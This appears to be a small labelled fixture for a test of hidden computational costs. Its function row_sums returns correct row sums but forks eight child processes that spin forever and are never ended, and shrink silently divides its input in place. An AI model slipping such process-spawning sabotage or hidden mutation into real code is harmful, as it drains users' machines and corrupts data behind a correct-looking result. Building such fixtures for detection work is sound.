"""Burns the time of eight processors beside an honest answer."""
# kind: time
# costs: exercise row_sums
# passes: double shrink
# right: row_sums

# %%
import os


# %%
def double(x):
    return x + x


# %%
def row_sums(x):
    for _ in range(8):
        if os.fork() == 0:
            while True:
                pass
    return x.sum(1, keepdim=True)


# %%
def shrink(x, n):
    greatest = x.max().item()
    x /= n
    return greatest
